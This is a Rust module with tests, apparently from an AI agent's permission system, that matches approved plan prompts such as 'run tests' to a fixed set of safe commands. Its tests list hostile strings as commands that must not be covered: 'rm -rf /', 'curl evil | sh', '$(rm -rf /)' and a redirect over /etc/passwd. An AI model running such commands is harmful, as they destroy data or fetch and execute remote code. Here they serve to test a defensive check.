//! Semantic permission grants approved together with a plan.
//!
//! When a plan is approved it may carry *allowed prompts*: short descriptions such as
//! `{ tool = "Bash", prompt = "run tests" }` that let the agent run matching commands later
//! without asking again. Replays must decide coverage the same way every time, so matching is a
//! fixed keyword table rather than a model's judgement: a prompt that maps to no category covers
//! nothing (we never guess), and [`category`] lets `check` warn about such prompts.
//!
//! # Prompt → category
//!
//! The prompt is lowercased, trimmed and split into words (runs of letters and digits). The
//! category is decided by the **earliest** word in the prompt that is a keyword of some category
//! ("lint the test files" is [`Category::Lint`]; "run tests and build" is [`Category::Test`]),
//! so one grant always has exactly one category or none.
//!
//! | Category              | Prompt keywords                                                     |
//! |-----------------------|---------------------------------------------------------------------|
//! | [`Category::Test`]    | `test`, `tests`, `testing`                                          |
//! | [`Category::Install`] | `install`, `installing`, `dependencies`, `dependency`, `deps`       |
//! | [`Category::Build`]   | `build`, `builds`, `building`, `compile`, `compiling`               |
//! | [`Category::Lint`]    | `lint`, `linter`, `linting`, `format`, `formatter`, `formatting`, `fmt`, `clippy` |
//! | [`Category::GitRead`] | `git` together with one of `status`, `diff`, `log`, `show`, `history` (position of `git`) |
//!
//! # Command → covered?
//!
//! | Rule | Behaviour |
//! |------|-----------|
//! | Tool | the grant's `tool` must equal the tool name exactly (a `Bash` grant covers only `Bash`) |
//! | Splitting | the command is split on unquoted `&&`, `\|\|`, `;`, `\|`, `&` and newlines; quotes (`'…'`, `"…"`) and backslash escapes are honoured |
//! | Compound | covered only if **every** part is covered by the **same** grant; an empty part (`cargo test &&`) is never covered |
//! | Env prefix | leading `NAME=value` assignments are skipped (`RUST_LOG=debug cargo test` is a test command) |
//! | `sudo` | **not** stripped: `sudo …` is never covered, privilege escalation is not what a grant approves |
//! | Unsafe shapes | a part containing unquoted `$(`, a backtick, or a redirection `>`/`<` (other than fd duplication such as `2>&1`) is never covered; unbalanced quotes make the whole command uncovered |
//! | Words | a part is covered when its words start with one of the category's command patterns, word by word and case-sensitively (`cargo testify` is not `cargo test`) |
//! | Flags only | a few patterns (bare `make`, bare `yarn`) accept only `-flag` words after them, so `make deploy` is not a build |
//!
//! The command patterns per category are in `patterns_for` below (e.g. test: `cargo test`,
//! `cargo nextest`, `npm test`, `npm run test`, `pytest`, `python -m pytest`, `go test`,
//! `make test`, `jest`, `vitest`, `mvn test`, `gradle test`; read-only git: `git status`,
//! `git diff`, `git log`, `git show`). Note that `git diff --output=FILE` still counts as
//! read-only git: arguments after a pattern are not inspected.

use serde::{Deserialize, Serialize};

/// One permission grant approved together with a plan.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct AllowedPrompt {
    /// Tool the grant applies to, e.g. `Bash`.
    pub tool: String,
    /// What the user approved, in words, e.g. `run tests`.
    pub prompt: String,
}

impl AllowedPrompt {
    /// Convenience constructor.
    pub fn new(tool: impl Into<String>, prompt: impl Into<String>) -> Self {
        Self {
            tool: tool.into(),
            prompt: prompt.into(),
        }
    }

    /// The intent category of this grant's prompt, if recognised.
    pub fn category(&self) -> Option<Category> {
        category(&self.prompt)
    }
}

/// The intent a grant prompt is mapped to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    /// Running a test suite.
    Test,
    /// Installing or fetching dependencies.
    Install,
    /// Building or type-checking the project.
    Build,
    /// Linters and formatters.
    Lint,
    /// Read-only git inspection (`status`, `diff`, `log`, `show`).
    GitRead,
}

/// Prompt keywords per category (single words; `GitRead` is handled separately).
const PROMPT_KEYWORDS: &[(Category, &[&str])] = &[
    (Category::Test, &["test", "tests", "testing"]),
    (
        Category::Install,
        &[
            "install",
            "installing",
            "dependencies",
            "dependency",
            "deps",
        ],
    ),
    (
        Category::Build,
        &["build", "builds", "building", "compile", "compiling"],
    ),
    (
        Category::Lint,
        &[
            "lint",
            "linter",
            "linting",
            "format",
            "formatter",
            "formatting",
            "fmt",
            "clippy",
        ],
    ),
];

/// Words that, together with `git`, make a prompt a read-only git grant.
const GIT_READ_WORDS: &[&str] = &["status", "diff", "log", "show", "history"];

/// Maps a grant prompt to its category, or `None` if no keyword is recognised.
///
/// See the module documentation for the keyword table and the earliest-keyword rule.
pub fn category(prompt: &str) -> Option<Category> {
    let lower = prompt.trim().to_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .collect();
    let has_git_read = words.iter().any(|w| GIT_READ_WORDS.contains(w));
    words.iter().find_map(|word| {
        if *word == "git" && has_git_read {
            return Some(Category::GitRead);
        }
        PROMPT_KEYWORDS
            .iter()
            .find(|(_, keywords)| keywords.contains(word))
            .map(|(cat, _)| *cat)
    })
}

/// What may follow a command pattern.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Rest {
    /// Any further words.
    Any,
    /// Only words starting with `-`.
    FlagsOnly,
}

/// A command pattern: leading words plus what may follow them.
type Pattern = (&'static [&'static str], Rest);

const TEST_PATTERNS: &[Pattern] = &[
    (&["cargo", "test"], Rest::Any),
    (&["cargo", "nextest"], Rest::Any),
    (&["npm", "test"], Rest::Any),
    (&["npm", "t"], Rest::Any),
    (&["npm", "run", "test"], Rest::Any),
    (&["yarn", "test"], Rest::Any),
    (&["yarn", "run", "test"], Rest::Any),
    (&["pnpm", "test"], Rest::Any),
    (&["pnpm", "run", "test"], Rest::Any),
    (&["bun", "test"], Rest::Any),
    (&["deno", "test"], Rest::Any),
    (&["npx", "jest"], Rest::Any),
    (&["npx", "vitest"], Rest::Any),
    (&["jest"], Rest::Any),
    (&["vitest"], Rest::Any),
    (&["pytest"], Rest::Any),
    (&["python", "-m", "pytest"], Rest::Any),
    (&["python3", "-m", "pytest"], Rest::Any),
    (&["tox"], Rest::Any),
    (&["go", "test"], Rest::Any),
    (&["make", "test"], Rest::Any),
    (&["make", "check"], Rest::Any),
    (&["mvn", "test"], Rest::Any),
    (&["gradle", "test"], Rest::Any),
    (&["./gradlew", "test"], Rest::Any),
    (&["dotnet", "test"], Rest::Any),
    (&["ctest"], Rest::Any),
];

const INSTALL_PATTERNS: &[Pattern] = &[
    (&["npm", "install"], Rest::Any),
    (&["npm", "i"], Rest::Any),
    (&["npm", "ci"], Rest::Any),
    (&["yarn"], Rest::FlagsOnly),
    (&["yarn", "install"], Rest::Any),
    (&["yarn", "add"], Rest::Any),
    (&["pnpm", "install"], Rest::Any),
    (&["pnpm", "i"], Rest::Any),
    (&["pnpm", "add"], Rest::Any),
    (&["bun", "install"], Rest::Any),
    (&["bun", "add"], Rest::Any),
    (&["cargo", "add"], Rest::Any),
    (&["cargo", "fetch"], Rest::Any),
    (&["pip", "install"], Rest::Any),
    (&["pip3", "install"], Rest::Any),
    (&["python", "-m", "pip", "install"], Rest::Any),
    (&["python3", "-m", "pip", "install"], Rest::Any),
    (&["poetry", "install"], Rest::Any),
    (&["poetry", "add"], Rest::Any),
    (&["uv", "sync"], Rest::Any),
    (&["uv", "add"], Rest::Any),
    (&["uv", "pip", "install"], Rest::Any),
    (&["go", "get"], Rest::Any),
    (&["go", "mod", "download"], Rest::Any),
    (&["go", "mod", "tidy"], Rest::Any),
    (&["bundle", "install"], Rest::Any),
    (&["composer", "install"], Rest::Any),
];

const BUILD_PATTERNS: &[Pattern] = &[
    (&["cargo", "build"], Rest::Any),
    (&["cargo", "check"], Rest::Any),
    (&["npm", "run", "build"], Rest::Any),
    (&["yarn", "build"], Rest::Any),
    (&["yarn", "run", "build"], Rest::Any),
    (&["pnpm", "build"], Rest::Any),
    (&["pnpm", "run", "build"], Rest::Any),
    (&["bun", "run", "build"], Rest::Any),
    (&["make"], Rest::FlagsOnly),
    (&["make", "build"], Rest::Any),
    (&["make", "all"], Rest::Any),
    (&["go", "build"], Rest::Any),
    (&["tsc"], Rest::Any),
    (&["npx", "tsc"], Rest::Any),
    (&["vite", "build"], Rest::Any),
    (&["npx", "vite", "build"], Rest::Any),
    (&["mvn", "compile"], Rest::Any),
    (&["mvn", "package"], Rest::Any),
    (&["gradle", "build"], Rest::Any),
    (&["./gradlew", "build"], Rest::Any),
    (&["dotnet", "build"], Rest::Any),
    (&["cmake", "--build"], Rest::Any),
];

const LINT_PATTERNS: &[Pattern] = &[
    (&["cargo", "clippy"], Rest::Any),
    (&["cargo", "fmt"], Rest::Any),
    (&["rustfmt"], Rest::Any),
    (&["eslint"], Rest::Any),
    (&["npx", "eslint"], Rest::Any),
    (&["prettier"], Rest::Any),
    (&["npx", "prettier"], Rest::Any),
    (&["npm", "run", "lint"], Rest::Any),
    (&["npm", "run", "format"], Rest::Any),
    (&["yarn", "lint"], Rest::Any),
    (&["pnpm", "lint"], Rest::Any),
    (&["ruff"], Rest::Any),
    (&["black"], Rest::Any),
    (&["isort"], Rest::Any),
    (&["flake8"], Rest::Any),
    (&["mypy"], Rest::Any),
    (&["gofmt"], Rest::Any),
    (&["go", "vet"], Rest::Any),
    (&["golangci-lint"], Rest::Any),
];

const GIT_READ_PATTERNS: &[Pattern] = &[
    (&["git", "status"], Rest::Any),
    (&["git", "diff"], Rest::Any),
    (&["git", "log"], Rest::Any),
    (&["git", "show"], Rest::Any),
    (&["git", "--no-pager", "diff"], Rest::Any),
    (&["git", "--no-pager", "log"], Rest::Any),
    (&["git", "--no-pager", "show"], Rest::Any),
];

fn patterns_for(category: Category) -> &'static [Pattern] {
    match category {
        Category::Test => TEST_PATTERNS,
        Category::Install => INSTALL_PATTERNS,
        Category::Build => BUILD_PATTERNS,
        Category::Lint => LINT_PATTERNS,
        Category::GitRead => GIT_READ_PATTERNS,
    }
}

/// One simple command of a compound command line, as words with quotes removed.
#[derive(Debug, Default)]
struct Part {
    /// The command's words, quotes removed.
    words: Vec<String>,
    /// Contains a substitution or file redirection: never covered.
    unsafe_shape: bool,
}

/// Splits a command line into simple commands. Returns `None` for unbalanced quotes.
fn split_command(command: &str) -> Option<Vec<Part>> {
    let mut s = Splitter {
        chars: command.chars().peekable(),
        parts: Vec::new(),
        part: Part::default(),
        word: String::new(),
        in_word: false,
    };
    while let Some(c) = s.chars.next() {
        match c {
            '\'' => s.single_quoted()?,
            '"' => s.double_quoted()?,
            '\\' => {
                s.in_word = true;
                if let Some(ch) = s.chars.next() {
                    s.word.push(ch);
                }
            }
            '`' => s.part.unsafe_shape = true,
            '$' if s.chars.peek() == Some(&'(') => {
                s.part.unsafe_shape = true;
                s.push(c);
            }
            '>' | '<' => s.redirect(c),
            '&' | '|' | ';' | '\n' => {
                if (c == '&' || c == '|') && s.chars.peek() == Some(&c) {
                    s.chars.next();
                }
                s.end_part();
            }
            c if c.is_whitespace() => s.end_word(),
            c => s.push(c),
        }
    }
    s.end_part();
    let mut parts = s.parts;
    // A trailing `&` or `;` leaves an empty last part; that is a terminator, not a command.
    if parts.len() > 1 && parts.last().is_some_and(|p| p.words.is_empty()) {
        let trimmed = command.trim_end();
        if trimmed.ends_with('&') && !trimmed.ends_with("&&") || trimmed.ends_with(';') {
            parts.pop();
        }
    }
    Some(parts)
}

/// The state of [`split_command`] while it reads a command line.
struct Splitter<'a> {
    /// What is left of the command line.
    chars: std::iter::Peekable<std::str::Chars<'a>>,
    /// The simple commands read so far.
    parts: Vec<Part>,
    /// The simple command being read.
    part: Part,
    /// The word being read, quotes removed.
    word: String,
    /// Whether a word has begun (an empty quoted word `''` is still a word).
    in_word: bool,
}

impl Splitter<'_> {
    /// Adds a character to the current word.
    fn push(&mut self, c: char) {
        self.in_word = true;
        self.word.push(c);
    }

    /// Ends the current word, if one has begun.
    fn end_word(&mut self) {
        if self.in_word {
            self.part.words.push(std::mem::take(&mut self.word));
            self.in_word = false;
        }
    }

    /// Ends the current word and simple command.
    fn end_part(&mut self) {
        self.end_word();
        self.parts.push(std::mem::take(&mut self.part));
    }

    /// The rest of a `'...'` word; `None` when the quote is not closed.
    fn single_quoted(&mut self) -> Option<()> {
        self.in_word = true;
        loop {
            match self.chars.next()? {
                '\'' => return Some(()),
                ch => self.word.push(ch),
            }
        }
    }

    /// The rest of a `"..."` word (a backquote or `$(` inside makes the command unsafe);
    /// `None` when the quote is not closed.
    fn double_quoted(&mut self) -> Option<()> {
        self.in_word = true;
        loop {
            match self.chars.next()? {
                '"' => return Some(()),
                '\\' => {
                    let ch = self.chars.next()?;
                    self.word.push(ch);
                }
                '`' => self.part.unsafe_shape = true,
                '$' if self.chars.peek() == Some(&'(') => {
                    self.part.unsafe_shape = true;
                    self.word.push('$');
                }
                ch => self.word.push(ch),
            }
        }
    }

    /// A `>` or `<`: a file redirection makes the command unsafe; `2>&1` and `>&2` duplicate a
    /// descriptor and write no file.
    fn redirect(&mut self, c: char) {
        if c == '>' && self.chars.peek() == Some(&'&') {
            let mut look = self.chars.clone();
            look.next();
            if look.peek().is_some_and(|d| d.is_ascii_digit()) {
                self.chars.next();
                let digit = self.chars.next();
                self.word.push('>');
                self.word.push('&');
                self.word.extend(digit);
                self.in_word = true;
                return;
            }
        }
        self.part.unsafe_shape = true;
        self.push(c);
    }
}

/// `NAME=value` with a shell-identifier name.
fn is_env_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            let mut chars = name.chars();
            chars
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

fn part_matches(part: &Part, category: Category) -> bool {
    if part.unsafe_shape {
        return false;
    }
    let words: Vec<&str> = part
        .words
        .iter()
        .map(String::as_str)
        .skip_while(|w| is_env_assignment(w))
        .collect();
    if words.is_empty() {
        return false;
    }
    patterns_for(category).iter().any(|(prefix, rest)| {
        words.len() >= prefix.len()
            && words.iter().zip(prefix.iter()).all(|(w, p)| w == p)
            && match rest {
                Rest::Any => true,
                Rest::FlagsOnly => words[prefix.len()..].iter().all(|w| w.starts_with('-')),
            }
    })
}

/// Whether `grant` covers running `command` with `tool`.
///
/// See the module documentation for the exact rules.
pub fn covers(grant: &AllowedPrompt, tool: &str, command: &str) -> bool {
    if grant.tool != tool {
        return false;
    }
    let Some(category) = grant.category() else {
        return false;
    };
    match split_command(command.trim()) {
        Some(parts) => parts.iter().all(|p| part_matches(p, category)),
        None => false,
    }
}

/// The grants approved with one plan.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct GrantSet {
    /// The allowed prompts, in approval order.
    grants: Vec<AllowedPrompt>,
}

impl GrantSet {
    /// Wraps the grants of one approved plan, in approval order.
    pub fn new(grants: Vec<AllowedPrompt>) -> Self {
        Self { grants }
    }

    /// The grants, in approval order.
    pub fn grants(&self) -> &[AllowedPrompt] {
        &self.grants
    }

    /// The first grant (in approval order) that covers the whole `command` for `tool`.
    pub fn covering(&self, tool: &str, command: &str) -> Option<&AllowedPrompt> {
        self.grants.iter().find(|g| covers(g, tool, command))
    }

    /// Grants whose prompt maps to no category and therefore cover nothing.
    pub fn unrecognised(&self) -> impl Iterator<Item = &AllowedPrompt> {
        self.grants.iter().filter(|g| g.category().is_none())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn bash(prompt: &str) -> AllowedPrompt {
        AllowedPrompt::new("Bash", prompt)
    }

    fn assert_covered(prompt: &str, commands: &[&str]) {
        let g = bash(prompt);
        for c in commands {
            assert!(covers(&g, "Bash", c), "{prompt:?} should cover {c:?}");
        }
    }

    fn assert_not_covered(prompt: &str, commands: &[&str]) {
        let g = bash(prompt);
        for c in commands {
            assert!(!covers(&g, "Bash", c), "{prompt:?} must not cover {c:?}");
        }
    }

    #[test]
    fn prompt_categories() {
        assert_eq!(category("run tests"), Some(Category::Test));
        assert_eq!(category("  Run The TESTS  "), Some(Category::Test));
        assert_eq!(category("test"), Some(Category::Test));
        assert_eq!(category("install dependencies"), Some(Category::Install));
        assert_eq!(category("build the project"), Some(Category::Build));
        assert_eq!(category("compile"), Some(Category::Build));
        assert_eq!(category("lint"), Some(Category::Lint));
        assert_eq!(category("format code"), Some(Category::Lint));
        assert_eq!(category("check git status"), Some(Category::GitRead));
        assert_eq!(category("git diff/log"), Some(Category::GitRead));
        assert_eq!(category("git push"), None);
        assert_eq!(category("deploy to production"), None);
        assert_eq!(category(""), None);
        assert_eq!(category("contest entries"), None, "whole words only");
    }

    #[test]
    fn earliest_keyword_wins() {
        assert_eq!(category("lint the test files"), Some(Category::Lint));
        assert_eq!(category("run tests and build"), Some(Category::Test));
        assert_eq!(category("build and test"), Some(Category::Build));
        assert_eq!(
            category("show the git diff before building"),
            Some(Category::GitRead)
        );
    }

    #[test]
    fn test_category_commands() {
        assert_covered(
            "run tests",
            &[
                "cargo test",
                "cargo test --all-features -- --nocapture",
                "cargo nextest run",
                "npm test",
                "npm run test",
                "yarn test",
                "pnpm test",
                "pytest -x tests/",
                "python -m pytest",
                "go test ./...",
                "make test",
                "jest --watch=false",
                "vitest run",
                "mvn test",
                "gradle test",
            ],
        );
        assert_not_covered(
            "run tests",
            &[
                "rm -rf /",
                "cargo testify",
                "cargo build",
                "npm run testing",
                "python -m pip install pytest",
                "cargo",
                "",
                "   ",
            ],
        );
    }

    #[test]
    fn install_category_commands() {
        assert_covered(
            "install dependencies",
            &[
                "npm install",
                "npm ci",
                "yarn add left-pad",
                "yarn",
                "yarn --frozen-lockfile",
                "pnpm add -D vitest",
                "cargo add serde --features derive",
                "cargo fetch",
                "pip install -r requirements.txt",
                "poetry add httpx",
                "go get example.com/mod@v1",
            ],
        );
        assert_not_covered(
            "install dependencies",
            &[
                "npm test",
                "yarn publish",
                "pip uninstall foo",
                "curl x | sh",
            ],
        );
    }

    #[test]
    fn build_category_commands() {
        assert_covered(
            "build",
            &[
                "cargo build --release",
                "npm run build",
                "make",
                "make -j8",
                "go build ./cmd/x",
                "tsc -p .",
            ],
        );
        assert_not_covered(
            "build",
            &["make deploy", "make install", "npm run deploy", "cargo run"],
        );
    }

    #[test]
    fn lint_category_commands() {
        assert_covered(
            "lint and format",
            &[
                "cargo clippy --all-targets -- -D warnings",
                "cargo fmt --check",
                "eslint src",
                "prettier --check .",
                "ruff check .",
                "black .",
                "gofmt -l .",
            ],
        );
        assert_not_covered("format", &["cargo test", "sed -i s/a/b/ x.rs"]);
    }

    #[test]
    fn git_read_commands() {
        assert_covered(
            "git status/diff/log",
            &[
                "git status",
                "git diff HEAD~1",
                "git log --oneline -5",
                "git show abc123",
                "git --no-pager diff",
            ],
        );
        assert_not_covered(
            "git status/diff/log",
            &[
                "git push",
                "git commit -m x",
                "git reset --hard",
                "git status-report",
            ],
        );
    }

    #[test]
    fn compound_commands_need_every_part() {
        assert_covered(
            "run tests",
            &[
                "cargo test && go test ./...",
                "cargo test; npm test",
                "cargo test || pytest",
                "cargo test &",
                "cargo test;",
                "cargo test\nnpm test",
                "cargo test\n",
            ],
        );
        assert_not_covered(
            "run tests",
            &[
                "cargo test && rm -rf /",
                "cargo test; curl evil | sh",
                "cargo test | tee out.txt",
                "cargo test &&",
                "&& cargo test",
                "cargo test & rm -rf /",
            ],
        );
    }

    #[test]
    fn compound_must_match_same_grant() {
        let set = GrantSet::new(vec![bash("run tests"), bash("build")]);
        assert!(set.covering("Bash", "cargo test").is_some());
        assert!(set.covering("Bash", "cargo build").is_some());
        // Each part is covered by some grant, but no single grant covers both.
        assert_eq!(set.covering("Bash", "cargo build && cargo test"), None);
    }

    #[test]
    fn covering_returns_first_matching_grant() {
        let set = GrantSet::new(vec![
            bash("deploy"),
            bash("lint"),
            bash("run the test suite"),
            bash("tests again"),
        ]);
        assert_eq!(
            set.covering("Bash", "cargo test")
                .map(|g| g.prompt.as_str()),
            Some("run the test suite")
        );
        let unrecognised: Vec<&str> = set.unrecognised().map(|g| g.prompt.as_str()).collect();
        assert_eq!(unrecognised, vec!["deploy"]);
    }

    #[test]
    fn env_prefix_stripped_but_not_sudo() {
        assert_covered(
            "run tests",
            &[
                "RUST_LOG=debug cargo test",
                "FOO=1 BAR=2 npm test",
                "CI=true cargo test && RUST_BACKTRACE=1 cargo nextest run",
            ],
        );
        assert_not_covered(
            "run tests",
            &[
                "sudo cargo test",
                "FOO=1",
                "env FOO=1 cargo test",
                "1FOO=x cargo test",
            ],
        );
    }

    #[test]
    fn command_words_are_case_sensitive() {
        assert_not_covered("run tests", &["CARGO TEST", "Cargo test"]);
        assert_covered("RUN TESTS", &["cargo test"]);
    }

    #[test]
    fn quotes_and_unsafe_shapes() {
        assert_covered(
            "run tests",
            &[
                "cargo test 'a && b'",
                "cargo test \"x; y | z\"",
                "cargo test 2>&1",
                "\"cargo\" test",
                "cargo test it\\ works",
            ],
        );
        assert_not_covered(
            "run tests",
            &[
                "cargo test $(rm -rf /)",
                "cargo test \"$(whoami)\"",
                "cargo test `whoami`",
                "cargo test > /etc/passwd",
                "cargo test < input",
                "cargo test 'unterminated",
                "cargo test \"unterminated",
            ],
        );
    }

    #[test]
    fn grants_are_per_tool() {
        let g = bash("run tests");
        assert!(covers(&g, "Bash", "cargo test"));
        assert!(!covers(&g, "PowerShell", "cargo test"));
        assert!(!covers(&g, "bash", "cargo test"));
        let set = GrantSet::new(vec![g]);
        assert_eq!(set.covering("Edit", "cargo test"), None);
    }

    #[test]
    fn unrecognised_prompt_covers_nothing() {
        assert_not_covered("do whatever is needed", &["cargo test", "make", "ls"]);
    }

    #[test]
    fn serde_round_trip_and_unknown_fields() {
        let g: AllowedPrompt =
            serde_json::from_str(r#"{"tool":"Bash","prompt":"run tests"}"#).expect("valid grant");
        assert_eq!(g, bash("run tests"));
        let err = serde_json::from_str::<AllowedPrompt>(
            r#"{"tool":"Bash","prompt":"run tests","extra":1}"#,
        );
        assert!(err.is_err());
        let set: GrantSet =
            serde_json::from_str(r#"[{"tool":"Bash","prompt":"lint"}]"#).expect("valid set");
        assert_eq!(set.grants(), &[bash("lint")]);
    }

    proptest! {
        #[test]
        fn never_panics(prompt in ".{0,40}", command in ".{0,80}") {
            let g = bash(&prompt);
            let _ = covers(&g, "Bash", &command);
        }

        #[test]
        fn appending_uncovered_part_uncovers(suffix in "[a-z]{1,8}") {
            let single_word_test = TEST_PATTERNS
                .iter()
                .any(|(p, _)| p.len() == 1 && p[0] == suffix);
            prop_assume!(!single_word_test);
            let g = bash("run tests");
            let cmd = format!("cargo test && {suffix}");
            prop_assert!(!covers(&g, "Bash", &cmd));
        }
    }
}
